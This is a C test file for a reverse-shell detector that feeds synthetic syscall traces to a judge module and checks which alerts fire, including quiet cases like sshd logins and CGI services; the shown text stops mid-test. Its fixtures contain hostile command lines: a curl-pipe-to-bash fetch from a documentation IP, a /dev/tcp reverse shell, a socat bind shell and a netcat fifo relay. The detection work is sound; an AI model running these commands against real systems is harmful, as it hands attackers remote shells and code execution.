/* test_judge.c: the judge (user/judge/) on events written as trace lines, the way `record` writes
 * them (docs/trace-format.md): which signals fire, one alert per remote shell, holds and
 * absorption in event time, relays, the /proc scan, entity ids, and what must not alert (an
 * ssh-like login, a plain command, curl | sh). No BPF: it links against the core library only. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "argl.h"
#include "baseline.h"
#include "interp.h"
#include "judge.h"
#include "score.h"
#include "tap.h"
#include "trace_read.h"

#define MAX_ALERTS 8

static struct alert got[MAX_ALERTS];
static unsigned ngot;

static void collect(void *ctx, struct alert *a)
{
	(void)ctx;
	if (ngot < MAX_ALERTS)
		got[ngot] = *a;
	ngot++;
}

static struct judge *fresh_with(bool scoring, enum severity min, const struct policy *pol,
				bool show_suppressed)
{
	static struct ruleset rs;
	char err[256];
	struct judge_opts o = judge_opts_default();

	if (!rs.nrules && rules_load_default(&rs, err, sizeof(err)))
		return NULL;
	o.rules = &rs;
	o.on_alert = collect;
	o.min_severity = min;
	o.policy = pol;
	o.show_suppressed = show_suppressed;
	if (scoring) {
		o.model = score_model_default();
		o.threshold = o.model ? o.model->threshold : 0.5;
	}
	ngot = 0;
	return judge_new(&o);
}

static struct judge *fresh(bool scoring)
{
	return fresh_with(scoring, SEV_MEDIUM, NULL, false);
}

/* Feed trace lines, one per line of text; a line that does not parse fails the test. */
static void feed(struct judge *j, const char *text)
{
	char *copy = strdup(text), *save = NULL;

	for (char *l = strtok_r(copy, "\n", &save); l; l = strtok_r(NULL, "\n", &save)) {
		struct sw_event ev;
		const char *why = "";
		int r = trace_parse_line(NULL, l, strlen(l), &ev, &why);

		CHECKF(r >= 0, "bad line '%s': %s", l, why);
		if (r > 0)
			judge_event(j, &ev);
	}
	free(copy);
}

/* python -c 'connect; dup2 x3; subprocess sh': one alert, on the shell, with the peer. */
static void test_reverse_shell_child(void)
{
	struct judge *j = fresh(false);

	CHECK(j != NULL);
	feed(j, "# shellwatch-trace 1 host=box boot_id=b-1\n"
		"execve pid=100 ppid=1 uid=0 t=1000 start=500 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=tty fd1=tty fd2=tty => 0\n"
		"connect pid=100 ppid=1 uid=0 t=2000 start=500 comm=python3 fd=3 family=inet addr=10.1.2.3 port=4444 => 0\n"
		"dup2 pid=100 ppid=1 uid=0 t=3000 start=500 comm=python3 fd=3 newfd=0 sock=1 => 0\n"
		"dup2 pid=100 ppid=1 uid=0 t=3100 start=500 comm=python3 fd=3 newfd=1 sock=1 => 1\n"
		"dup2 pid=100 ppid=1 uid=0 t=3200 start=500 comm=python3 fd=3 newfd=2 sock=1 => 2\n"
		"fork pid=100 ppid=1 uid=0 t=4000 start=500 comm=python3 child=101\n"
		"execve pid=101 ppid=100 uid=0 t=5000 start=4000 comm=sh exe=/bin/sh argv=\"sh -i\" pstart=500 fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.1.2.3:4444 local0=10.0.0.2:40000 peer1=10.1.2.3:4444 local1=10.0.0.2:40000 peer2=10.1.2.3:4444 local2=10.0.0.2:40000 => 0\n");
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(got[0].pid == 101 && got[0].ppid == 100);
	CHECKF((got[0].signals & (SIG_RULE | SIG_STDIO_SOCKET | SIG_INTERPRETER | SIG_CMD_STDIN)) ==
		       (SIG_RULE | SIG_STDIO_SOCKET | SIG_INTERPRETER | SIG_CMD_STDIN), "signals %x",
	       got[0].signals);
	CHECK(got[0].severity == SEV_HIGH && got[0].direction == DIR_OUTBOUND);
	CHECK(!strcmp(got[0].interp, "sh") && got[0].interp_by == INTERP_BY_NAME);
	CHECK(got[0].has_peer && got[0].peer.pport == 4444 && got[0].peer.lport == 40000);
	CHECK(!strcmp(got[0].cmd, "sh -i") && !strcmp(got[0].exe, "/bin/sh"));
	CHECK(!strcmp(got[0].host, "box") && got[0].exec_ns == 5000 && got[0].decided_ns == 5000);
	CHECKF(got[0].nmatched >= 5, "%u matched", got[0].nmatched);
	CHECK(strlen(got[0].entity_id) == 16 && strlen(got[0].parent_entity_id) == 16 &&
	      strcmp(got[0].entity_id, got[0].parent_entity_id));
	/* The attacker's commands run by that shell are the same episode. */
	feed(j, "fork pid=101 ppid=100 uid=0 t=6000 start=4000 comm=sh child=102\n"
		"execve pid=102 ppid=101 uid=0 t=7000 start=6000 comm=id exe=/usr/bin/id argv=id fd0=sock:inet peer0=10.1.2.3:4444 => 0\n");
	CHECKF(ngot == 1, "%u alerts after the shell's child", ngot);
	judge_free(j);
}

/* The working directories: the shell's from its exec, the parent's from the table (forks inherit
 * it; a long one keeps its end after "..."); unknown stays empty. */
static void test_working_directory(void)
{
	struct judge *j = fresh(false);
	char longdir[400], line[1200], want[PROC_CWD_MAX];
	size_t n = 0;

	CHECK(j != NULL);
	while (n < 300)
		n += (size_t)snprintf(longdir + n, sizeof(longdir) - n, "/dir%zu", n);
	snprintf(line, sizeof(line), "execve pid=100 ppid=1 uid=0 t=1000 comm=python3 cwd=%s "
		 "exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=tty fd1=tty fd2=tty => 0\n"
		 "fork pid=100 ppid=1 uid=0 t=4000 comm=python3 child=101\n", longdir);
	feed(j, line);
	feed(j, "execve pid=101 ppid=100 uid=0 t=5000 comm=sh cwd=\"/tmp/x y\" exe=/bin/sh argv=\"sh -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.1.2.3:4444 peer1=10.1.2.3:4444 peer2=10.1.2.3:4444 => 0\n");
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECKF(!strcmp(got[0].cwd, "/tmp/x y"), "%s", got[0].cwd);
	proc_copy_cwd(want, sizeof(want), sw_str_c(longdir));
	CHECKF(!strcmp(got[0].pcwd, want), "%s", got[0].pcwd);
	/* the copy: "..." and the path's end from a '/' on, within the table's bytes */
	CHECK(!strncmp(want, ".../", 4) && strlen(want) < PROC_CWD_MAX &&
	      strlen(want) > PROC_CWD_MAX / 2 &&
	      !strcmp(longdir + strlen(longdir) - (strlen(want) - 3), want + 3));
	judge_free(j);
	/* no cwd= anywhere: both empty */
	j = fresh(false);
	feed(j, "execve pid=201 ppid=200 uid=0 t=5000 comm=sh exe=/bin/sh argv=\"sh -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.1.2.3:4444 peer1=10.1.2.3:4444 peer2=10.1.2.3:4444 => 0\n");
	CHECK(ngot == 1 && !got[0].cwd[0] && !got[0].pcwd[0]);
	judge_free(j);
}

/* Arguments with spaces: the argl of the exec (include/argl.h) marks the spaces inside an
 * argument, in the alert's own command line and in its parent's (the table's copy). */
static void test_argument_boundaries(void)
{
	struct judge *j = fresh(false);

	CHECK(j != NULL);
	feed(j, "execve pid=300 ppid=1 uid=0 t=1000 comm=bash exe=/bin/bash argv=\"bash -c exec sh -i\" argl=4,2,10 fd0=tty fd1=tty fd2=tty => 0\n"
		"fork pid=300 ppid=1 uid=0 t=2000 comm=bash child=301\n"
		"execve pid=301 ppid=300 uid=0 t=3000 comm=sh exe=/bin/sh argv=\"sh -s a b\" argl=2,2,3 fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.1.2.3:4444 peer1=10.1.2.3:4444 peer2=10.1.2.3:4444 => 0\n");
	CHECKF(ngot == 1, "%u alerts", ngot);
	/* "bash -c exec sh -i": the spaces at 12 and 15 are inside the -c string */
	for (size_t i = 0; ngot && i < strlen(got[0].pcmd); i++)
		CHECKF(argl_is_inner(got[0].pcmd_inner, sizeof(got[0].pcmd_inner), i) ==
		       (i == 12 || i == 15), "parent byte %zu", i);
	/* "sh -s a b": commands from stdin, "a b" its $1: the space at 7 */
	for (size_t i = 0; ngot && i < strlen(got[0].cmd); i++)
		CHECKF(argl_is_inner(got[0].cmd_inner, sizeof(got[0].cmd_inner), i) == (i == 7),
		       "byte %zu", i);
	judge_free(j);
}

/* The entity id depends on boot id, pid and start tick only, not on where it came from. */
static void test_entity_id(void)
{
	char a[24], b[24], c[24], d[24], e[24];

	judge_entity_id(a, sizeof(a), "boot-1", 42, 1230000000ull);
	judge_entity_id(b, sizeof(b), "boot-1", 42, 1230000001ull);  /* same tick */
	judge_entity_id(c, sizeof(c), "boot-2", 42, 1230000000ull);
	judge_entity_id(d, sizeof(d), "boot-1", 43, 1230000000ull);
	judge_entity_id(e, sizeof(e), "boot-1", 42, 0);
	CHECK(!strcmp(a, b) && strcmp(a, c) && strcmp(a, d) && strlen(a) == 16);
	CHECK(e[0] == '\0');
}

/* python pty.spawn: the shell's stdio is a terminal, its parent's is the socket. */
static void test_pty_shell(void)
{
	struct judge *j = fresh(false);

	feed(j, "execve pid=200 ppid=1 t=1 comm=python3 exe=/usr/bin/python3 argv=\"python3 p.py\" fd0=tty fd1=tty fd2=tty => 0\n"
		"connect pid=200 ppid=1 t=2 comm=python3 fd=3 family=inet addr=10.9.9.9 port=53 => -115\n"
		"dup2 pid=200 ppid=1 t=3 fd=3 newfd=0 sock=1 => 0\n"
		"dup2 pid=200 ppid=1 t=4 fd=3 newfd=1 sock=1 => 1\n"
		"dup2 pid=200 ppid=1 t=5 fd=3 newfd=2 sock=1 => 2\n"
		"fork pid=200 ppid=1 t=6 child=201\n"
		"execve pid=201 ppid=200 t=7 comm=bash exe=/bin/bash argv=bash fd0=tty fd1=tty fd2=tty => 0\n");
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(ngot && got[0].pid == 201 && (got[0].signals & SIG_PARENT_SOCKET));
	CHECK(ngot && !(got[0].signals & SIG_STDIO_SOCKET) && got[0].peer.pport == 53);
	CHECK(ngot && !got[0].has_uid);   /* no uid= in the lines: unknown, not 0 */
	judge_free(j);
}

/* An sshd-like parent that accepted a connection starts a login shell on a terminal: no alert. */
static void test_login_is_quiet(void)
{
	struct judge *j = fresh(true);

	feed(j, "execve pid=300 ppid=1 uid=0 t=1 comm=sshd exe=/usr/sbin/sshd argv=\"sshd: alice [priv]\" fd0=other fd1=other fd2=other => 0\n"
		"accept4 pid=300 ppid=1 uid=0 t=2 comm=sshd fd=3 family=inet addr=192.0.2.7 port=51000 local=10.0.0.1:22 => 4\n"
		"fork pid=300 ppid=1 uid=0 t=3 comm=sshd child=301\n"
		"execve pid=301 ppid=300 uid=1000 t=4 comm=bash exe=/bin/bash argv=-bash fd0=tty fd1=tty fd2=tty => 0\n"
		"fork pid=301 ppid=300 uid=1000 t=5 comm=bash child=302\n"
		"execve pid=302 ppid=301 uid=1000 t=6 comm=ls exe=/usr/bin/ls argv=\"ls -la\" fd0=tty fd1=tty fd2=tty => 0\n");
	judge_tick(j, 2000000000ull);
	CHECKF(ngot == 0, "%u alerts", ngot);
	judge_free(j);
	CHECKF(ngot == 0, "%u alerts after free", ngot);
}

/* A malicious-looking command alone is held for 200 ms of event time, then reported once, as
 * low: shown only when asked for (--min-severity low), counted always. */
static void test_score_only_is_held(void)
{
	struct judge *j = fresh_with(true, SEV_LOW, NULL, false);
	struct judge_stats st;

	if (!score_model_default()) {
		CHECKF(0, "no embedded model");
		return;
	}
	feed(j, "execve pid=400 ppid=1 t=1000000000 comm=bash exe=/bin/bash argv=\"bash -c curl -s http://203.0.113.5:8080/x.sh | bash\" fd0=tty fd1=tty fd2=tty => 0\n");
	judge_tick(j, 1100000000ull);
	CHECKF(ngot == 0, "%u alerts before the hold ran out", ngot);
	/* an unrelated event after the hold: time moved on, the held alert goes out first */
	feed(j, "fork pid=1 ppid=0 t=1300000000 child=999\n");
	CHECKF(ngot == 1, "%u alerts after the hold", ngot);
	CHECKF(ngot && got[0].pid == 400 && (got[0].signals & SIG_SCORE) && got[0].score >= 0 &&
	       got[0].severity == SEV_LOW, "signals %x severity %d", got[0].signals, got[0].severity);
	CHECKF(ngot && got[0].decided_ns == 1200000000ull, "decided at %llu",
	       (unsigned long long)got[0].decided_ns);
	judge_free(j);
	CHECKF(ngot == 1, "%u alerts after free", ngot);
	/* at the default minimum (medium) it is counted, not emitted */
	j = fresh(true);
	feed(j, "execve pid=400 ppid=1 t=1000000000 comm=bash exe=/bin/bash argv=\"bash -c curl -s http://203.0.113.5:8080/x.sh | bash\" fd0=tty fd1=tty fd2=tty => 0\n");
	judge_finish(j);
	judge_stats(j, &st);
	CHECKF(ngot == 0 && st.by_severity[SEV_LOW] == 1 && st.below_min == 1, "%u alerts", ngot);
	judge_free(j);
}

/* bash -c 'bash -i >& /dev/tcp/..': the suspicious parent is absorbed by the confirmed child. */
static void test_confirmed_absorbs_held(void)
{
	struct judge *j = fresh(true);

	feed(j, "execve pid=500 ppid=1 t=1000 comm=bash exe=/bin/bash argv=\"bash -c bash -i >& /dev/tcp/198.51.100.1/9001 0>&1\" fd0=tty fd1=tty fd2=tty => 0\n"
		"fork pid=500 ppid=1 t=2000 child=501\n"
		"connect pid=501 ppid=500 t=3000 fd=3 family=inet addr=198.51.100.1 port=9001 => 0\n"
		"dup2 pid=501 ppid=500 t=3100 fd=3 newfd=1 sock=1 => 1\n"
		"dup2 pid=501 ppid=500 t=3200 fd=1 newfd=2 sock=1 => 2\n"
		"dup2 pid=501 ppid=500 t=3300 fd=1 newfd=0 sock=1 => 0\n"
		"execve pid=501 ppid=500 t=4000 comm=bash exe=/bin/bash argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=198.51.100.1:9001 local0=10.0.0.2:5000 => 0\n");
	judge_tick(j, 2000000000ull);
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(ngot && got[0].pid == 501 && (got[0].signals & SIG_PARENT_SCORE) &&
	      (got[0].signals & SIG_STDIO_SOCKET) && (got[0].signals & SIG_RULE));
	CHECK(ngot && !strcmp(got[0].pcmd, "bash -c bash -i >& /dev/tcp/198.51.100.1/9001 0>&1"));
	CHECK(ngot && !strcmp(got[0].rule, "reverse-shell-chain"));
	judge_free(j);
	CHECKF(ngot == 1, "%u alerts after free", ngot);
}

static void test_exit_frees(void)
{
	struct judge *j = fresh(false);
	struct judge_stats st;
	char line[512];

	for (uint32_t pid = 600; pid < 700; pid++) {
		snprintf(line, sizeof(line),
			 "fork pid=1 ppid=0 t=%u child=%u\n"
			 "execve pid=%u ppid=1 t=%u exe=/bin/true argv=true fd0=pipe fd1=pipe fd2=pipe => 0\n"
			 "exit pid=%u ppid=1 t=%u code=0\n", pid * 10, pid, pid, pid * 10 + 1, pid, pid * 10 + 2);
		feed(j, line);
	}
	judge_stats(j, &st);
	CHECKF(st.procs.live == 1 && st.procs.max_live >= 2, "live %llu max %llu",
	       (unsigned long long)st.procs.live, (unsigned long long)st.procs.max_live);
	CHECK(st.execs == 100 && ngot == 0);
	judge_free(j);
}

/* Processes found in /proc at the start: a reverse shell already running is alerted once (not
 * again for its child); a shell on a terminal is not. */
static void test_proc_scan(void)
{
	struct judge *j = fresh(false);

	feed(j, "proc pid=800 ppid=1 uid=1000 t=10 start=5 comm=bash exe=/usr/bin/bash argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=192.0.2.9:443 local0=10.0.0.2:5000\n");
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECKF(ngot && got[0].pid == 800 && got[0].uid == 1000 &&
	       (got[0].signals & SIG_STDIO_SOCKET) && got[0].severity == SEV_HIGH, "signals %x",
	       got[0].signals);
	CHECK(ngot && got[0].peer.pport == 443 && !strcmp(got[0].exe, "/usr/bin/bash"));
	CHECK(ngot && got[0].exec_ns == got[0].decided_ns);
	feed(j, "proc pid=801 ppid=800 uid=1000 t=10 comm=sh exe=/usr/bin/bash argv=\"bash -i\" fd0=sock:inet peer0=192.0.2.9:443\n");
	CHECKF(ngot == 1, "%u alerts after the child", ngot);
	/* a script with a connection on stdin reads data; python reading stdin takes commands */
	feed(j, "proc pid=890 ppid=1 uid=1000 t=10 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=sock:inet fd1=sock:inet peer0=192.0.2.9:443 peer1=192.0.2.9:443\n");
	CHECKF(ngot == 1, "%u alerts after a script", ngot);
	feed(j, "proc pid=900 ppid=1 uid=1000 t=10 comm=python3 exe=/usr/bin/python3 argv=python3 fd0=sock:inet fd1=sock:inet peer0=192.0.2.9:443 peer1=192.0.2.9:443\n");
	CHECKF(ngot == 2, "%u alerts for another tree", ngot);
	feed(j, "proc pid=950 ppid=1 uid=1000 t=10 comm=bash exe=/usr/bin/bash argv=-bash fd0=tty fd1=tty fd2=tty\n");
	CHECKF(ngot == 2, "%u alerts after a terminal shell", ngot);
	/* an event said more already: the scan's line changes nothing */
	feed(j, "execve pid=960 ppid=1 t=11 comm=cat exe=/bin/cat argv=cat fd0=tty fd1=tty fd2=tty => 0\n"
		"proc pid=960 ppid=1 t=12 comm=sh exe=/bin/sh argv=sh fd0=sock:inet peer0=192.0.2.9:443\n");
	CHECKF(ngot == 2, "%u alerts after a stale scan line", ngot);
	judge_free(j);
}

/* sh -i < fifo | nc host port > fifo, with a renamed nc and the connect before or after the shell's
 * exec: a pipe-relay alert on the shell. curl | sh (one way) is not one. */
static void test_pipe_relay(void)
{
	static const char *const sh =
		"execve pid=1001 ppid=1000 t=%d exe=/bin/sh argv=\"/bin/sh -i\" fd0=fifo fd1=pipe fd2=pipe pipe0=26:777 pipe1=13:4242 pipe2=13:4242 => 0\n";
	static const char *const nc =
		"execve pid=1002 ppid=1000 t=%d exe=/tmp/x argv=\"x 203.0.113.9 4444\" fd0=pipe fd1=fifo fd2=tty pipe0=13:4242 pipe1=26:777 => 0\n";
	static const char *const conn =
		"connect pid=1002 ppid=1000 t=%d fd=3 family=inet addr=203.0.113.9 port=4444 => 0\n";
	char buf[1024];

	for (int connect_first = 0; connect_first < 2; connect_first++) {
		struct judge *j = fresh(false);

		if (connect_first) {
			snprintf(buf, sizeof(buf), nc, 1), feed(j, buf);
			snprintf(buf, sizeof(buf), conn, 2), feed(j, buf);
			snprintf(buf, sizeof(buf), sh, 3), feed(j, buf);
		} else {
			snprintf(buf, sizeof(buf), sh, 1), feed(j, buf);
			snprintf(buf, sizeof(buf), nc, 2), feed(j, buf);
			CHECKF(ngot == 0, "%u alerts before the connect", ngot);
			snprintf(buf, sizeof(buf), conn, 3), feed(j, buf);
		}
		CHECKF(ngot == 1, "connect_first=%d: %u alerts", connect_first, ngot);
		CHECK(ngot && got[0].pid == 1001 && (got[0].signals & SIG_PIPE_RELAY));
		CHECK(ngot && got[0].has_peer && got[0].peer.pport == 4444);
		judge_free(j);
	}

	struct judge *j = fresh(false);

	feed(j, "execve pid=1011 ppid=1010 t=1 exe=/usr/bin/curl argv=\"curl -s http://203.0.113.9/i\" fd0=tty fd1=pipe fd2=tty pipe1=13:5151 => 0\n"
		"execve pid=1012 ppid=1010 t=2 exe=/bin/sh argv=sh fd0=pipe fd1=tty fd2=tty pipe0=13:5151 => 0\n"
		"connect pid=1011 ppid=1010 t=3 fd=3 family=inet addr=203.0.113.9 port=80 => 0\n");
	CHECKF(ngot == 0, "curl | sh: %u alerts", ngot);
	judge_free(j);
}

/* Without stdio facts (strace without -yy, auditd), stdio follows forks and dups. */
static void test_stdio_from_dups(void)
{
	struct judge *j = fresh(false);

	feed(j, "connect pid=50 ppid=1 t=1 fd=3 family=inet addr=127.0.0.1 port=9001 => 0\n"
		"dup2 pid=50 ppid=1 t=2 fd=3 newfd=0 => 0\n"
		"execve pid=50 ppid=1 t=3 exe=/bin/cat argv=cat => 0\n");
	CHECKF(ngot == 0, "cat with the socket as input only: %u alerts", ngot);
	feed(j, "fork pid=50 ppid=1 t=4 child=51\n"
		"dup2 pid=51 ppid=50 t=5 fd=0 newfd=1 => 1\n"
		"execve pid=51 ppid=50 t=6 exe=/bin/sh argv=sh => 0\n");
	CHECKF(ngot == 1, "%u alerts", ngot);
	CHECK(ngot && (got[0].signals & SIG_STDIO_SOCKET) && got[0].peer.pport == 9001 &&
	      got[0].severity == SEV_HIGH);
	/* perl's open(STDIN, ">&S"): a copy of the socket first (fcntl F_DUPFD), then the copy */
	feed(j, "connect pid=60 ppid=1 t=7 fd=3 family=inet addr=127.0.0.1 port=9002 => 0\n"
		"fcntl pid=60 ppid=1 t=8 fd=3 cmd=F_DUPFD_CLOEXEC arg=0 => 4\n"
		"dup2 pid=60 ppid=1 t=9 fd=4 newfd=0 => 0\n"
		"dup2 pid=60 ppid=1 t=10 fd=4 newfd=1 => 1\n"
		"execve pid=60 ppid=1 t=11 exe=/bin/sh argv=\"/bin/sh -i\" => 0\n");
	CHECKF(ngot == 2 && got[1].peer.pport == 9002 && got[1].severity == SEV_HIGH, "%u alerts",
	       ngot);
	judge_free(j);
}

/* sshd: the listener accepts, its child re-executes sshd with the connection on stdin and stdout,
 * the session starts a login shell on a terminal, `ssh -T` a shell reading pipes, `ssh host cmd` a
 * -c shell: remote access by design, no alert; the counter says why. */
static void test_sshd_is_sanctioned(void)
{
	struct judge *j = fresh(true);
	struct judge_stats st;

	feed(j, "proc pid=700 ppid=1 uid=0 t=1 comm=sshd exe=/usr/sbin/sshd argv=\"sshd: /usr/sbin/sshd -D [listener]\" fd0=other fd1=other fd2=other\n"
		"accept4 pid=700 ppid=1 uid=0 t=2 comm=sshd fd=3 local=10.0.0.1:22 family=inet addr=192.0.2.7 port=51000 => 5\n"
		"fork pid=700 ppid=1 uid=0 t=3 comm=sshd child=701\n"
		"dup2 pid=701 ppid=700 uid=0 t=4 comm=sshd fd=5 newfd=0 sock=1 => 0\n"
		"dup2 pid=701 ppid=700 uid=0 t=5 comm=sshd fd=0 newfd=1 sock=1 => 1\n"
		"execve pid=701 ppid=700 uid=0 t=6 comm=sshd exe=/usr/sbin/sshd argv=\"/usr/sbin/sshd -D -R\" fd0=sock:inet fd1=sock:inet fd2=other peer0=192.0.2.7:51000 local0=10.0.0.1:22 peer1=192.0.2.7:51000 local1=10.0.0.1:22 => 0\n"
		"fork pid=701 ppid=700 uid=0 t=7 comm=sshd child=702\n"
		"execve pid=702 ppid=701 uid=1000 t=8 comm=bash exe=/bin/bash argv=-bash interp=bash interp_by=inode fd0=tty fd1=tty fd2=tty => 0\n"
		"fork pid=701 ppid=700 uid=0 t=9 comm=sshd child=703\n"
		"execve pid=703 ppid=701 uid=1000 t=10 comm=bash exe=/bin/bash argv=bash interp=bash interp_by=inode fd0=pipe fd1=pipe fd2=pipe pipe0=13:1 pipe1=13:2 pipe2=13:3 => 0\n"
		"fork pid=701 ppid=700 uid=0 t=11 comm=sshd child=704\n"
		"execve pid=704 ppid=701 uid=1000 t=12 comm=bash exe=/bin/bash argv=\"bash -c git-upload-pack '/srv/repo'\" fd0=pipe fd1=pipe fd2=pipe => 0\n");
	judge_finish(j);
	judge_stats(j, &st);
	CHECKF(ngot == 0, "%u alerts, first %s pid %u", ngot, ngot ? alert_name(&got[0]) : "", got[0].pid);
	CHECKF(st.sanctioned >= 2, "sanctioned %llu", (unsigned long long)st.sanctioned);
	judge_free(j);
}

/* The same shapes without a sanctioned server are remote shells: a bind shell through socat. */
static void test_socat_bind_shell(void)
{
	struct judge *j = fresh(false);

	feed(j, "execve pid=720 ppid=1 t=1 comm=socat exe=/usr/bin/socat argv=\"socat TCP-LISTEN:4444,fork EXEC:/bin/sh\" fd0=tty fd1=tty fd2=tty => 0\n"
		"accept4 pid=720 ppid=1 t=2 comm=socat fd=5 local=127.0.0.1:4444 family=inet addr=127.0.0.1 port=50000 => 6\n"
		"fork pid=720 ppid=1 t=3 comm=socat child=721\n"
		"dup2 pid=721 ppid=720 t=4 fd=6 newfd=0 sock=1 => 0\n"
		"dup2 pid=721 ppid=720 t=5 fd=6 newfd=1 sock=1 => 1\n"
		"execve pid=721 ppid=720 t=6 comm=sh exe=/bin/sh argv=/bin/sh fd0=sock:inet fd1=sock:inet fd2=tty peer0=127.0.0.1:50000 local0=127.0.0.1:4444 peer1=127.0.0.1:50000 local1=127.0.0.1:4444 => 0\n");
	CHECKF(ngot == 1 && got[0].severity == SEV_HIGH && got[0].direction == DIR_INBOUND,
	       "%u alerts", ngot);
	judge_free(j);
}

/* Network services that run programs: CGI (a script with the connection on stdio, and what it
 * runs), an inetd-style date, git daemon: inbound, no interpreter taking commands: no alert. */
static void test_services_are_quiet(void)
{
	struct judge *j = fresh(true);

	feed(j, "execve pid=730 ppid=1 t=1 comm=python3 exe=/usr/bin/python3 argv=\"python3 -m http.server --cgi 8000\" fd0=tty fd1=tty fd2=tty => 0\n"
		"accept4 pid=730 ppid=1 t=2 comm=python3 fd=3 local=127.0.0.1:8000 family=inet addr=127.0.0.1 port=50001 => 4\n"
		"fork pid=730 ppid=1 t=3 comm=python3 child=731\n"
		"dup2 pid=731 ppid=730 t=4 fd=4 newfd=0 sock=1 => 0\n"
		"dup2 pid=731 ppid=730 t=5 fd=4 newfd=1 sock=1 => 1\n"
		"execve pid=731 ppid=730 t=6 comm=x.sh exe=/srv/cgi-bin/x.sh argv=\"/bin/sh /srv/cgi-bin/x.sh\" fd0=sock:inet fd1=sock:inet fd2=tty peer0=127.0.0.1:50001 local0=127.0.0.1:8000 peer1=127.0.0.1:50001 local1=127.0.0.1:8000 => 0\n"
		"fork pid=731 ppid=730 t=7 child=732\n"
		"execve pid=732 ppid=731 t=8 comm=date exe=/bin/date argv=date fd0=sock:inet fd1=sock:inet fd2=tty peer0=127.0.0.1:50001 local0=127.0.0.1:8000 peer1=127.0.0.1:50001 local1=127.0.0.1:8000 => 0\n"
		"execve pid=740 ppid=1 t=9 comm=git exe=/usr/bin/git argv=\"git daemon --port=9418\" fd0=tty fd1=tty fd2=tty => 0\n"
		"accept pid=740 ppid=1 t=10 comm=git fd=3 local=127.0.0.1:9418 family=inet addr=127.0.0.1 port=50002 => 4\n"
		"fork pid=740 ppid=1 t=11 comm=git child=741\n"
		"dup2 pid=741 ppid=740 t=12 fd=4 newfd=0 sock=1 => 0\n"
		"dup2 pid=741 ppid=740 t=13 fd=4 newfd=1 sock=1 => 1\n"
		"execve pid=741 ppid=740 t=14 comm=git exe=/usr/bin/git argv=\"git daemon --serve\" fd0=sock:inet fd1=sock:inet fd2=other peer0=127.0.0.1:50002 local0=127.0.0.1:9418 peer1=127.0.0.1:50002 local1=127.0.0.1:9418 => 0\n"
		/* a health check: the connection is only cat's input */
		"connect pid=750 ppid=1 t=15 fd=3 family=inet addr=127.0.0.1 port=8080 => 0\n"
		"dup2 pid=750 ppid=1 t=16 fd=3 newfd=0 sock=1 => 0\n"
		"execve pid=750 ppid=1 t=17 comm=cat exe=/bin/cat argv=cat fd0=sock:inet fd1=pipe fd2=tty peer0=127.0.0.1:8080 local0=127.0.0.1:40000 => 0\n"
		/* a server that runs sh -c per request */
		"execve pid=760 ppid=1 t=18 comm=node exe=/usr/bin/node argv=\"node server.js\" fd0=tty fd1=tty fd2=tty => 0\n"
		"accept4 pid=760 ppid=1 t=19 fd=20 local=127.0.0.1:3000 family=inet addr=127.0.0.1 port=50003 => 21\n"
		"fork pid=760 ppid=1 t=20 child=761\n"
		"execve pid=761 ppid=760 t=21 comm=sh exe=/bin/sh argv=\"/bin/sh -c echo hi\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:50 pipe1=13:51 pipe2=13:52 => 0\n");
	judge_finish(j);
	CHECKF(ngot == 0, "%u alerts, first %s pid %u", ngot, ngot ? alert_name(&got[0]) : "", got[0].pid);
	/* node's spawn('/bin/sh') reading the pipes: a bind shell */
	feed(j, "fork pid=760 ppid=1 t=22 child=762\n"
		"execve pid=762 ppid=760 t=23 comm=sh exe=/bin/sh argv=/bin/sh fd0=pipe fd1=pipe fd2=pipe pipe0=13:60 pipe1=13:61 pipe2=13:62 => 0\n");
	CHECKF(ngot == 1 && got[0].pid == 762 && got[0].severity == SEV_HIGH &&
	       (got[0].signals & SIG_HOLDS_SOCKET), "%u alerts", ngot);
	judge_free(j);
}

/* A renamed interpreter is still one (the source identified it by build-id); busybox's shell
 * applet is a shell, its nc is not. */
static void test_identity(void)
{
	struct judge *j = fresh(false);

	feed(j, "connect pid=800 ppid=1 t=1 fd=3 family=inet addr=10.0.0.9 port=443 => 0\n"
		"execve pid=800 ppid=1 t=2 comm=x exe=/tmp/x argv=x interp=bash interp_by=build-id fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.0.0.9:443 local0=10.0.0.2:40001 peer1=10.0.0.9:443 local1=10.0.0.2:40001 => 0\n");
	CHECKF(ngot == 1 && got[0].severity == SEV_HIGH && !strcmp(got[0].interp, "bash") &&
	       got[0].interp_by == INTERP_BY_BUILDID, "%u alerts", ngot);
	feed(j, "connect pid=810 ppid=1 t=3 fd=3 family=inet addr=10.0.0.9 port=443 => 0\n"
		"execve pid=810 ppid=1 t=4 comm=sh exe=/bin/busybox argv=\"sh -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.0.0.9:443 local0=10.0.0.2:40002 peer1=10.0.0.9:443 local1=10.0.0.2:40002 => 0\n");
	CHECKF(ngot == 2 && got[1].severity == SEV_HIGH && !strcmp(got[1].interp, "busybox sh"),
	       "%u alerts, interp '%s'", ngot, got[1].interp);
	feed(j, "execve pid=820 ppid=1 t=5 comm=nc exe=/bin/busybox argv=\"nc -l -p 80\" fd0=tty fd1=tty fd2=tty => 0\n");
	CHECK(ngot == 2);
	judge_free(j);
}

/* An unknown program on an outbound connection as its stdin and stdout: medium, held, emitted
 * when the hold runs out; not at --min-severity high. */
static void test_medium(void)
{
	static const char *const implant =
		"connect pid=830 ppid=1 t=1000 fd=3 family=inet addr=203.0.113.7 port=8443 => 0\n"
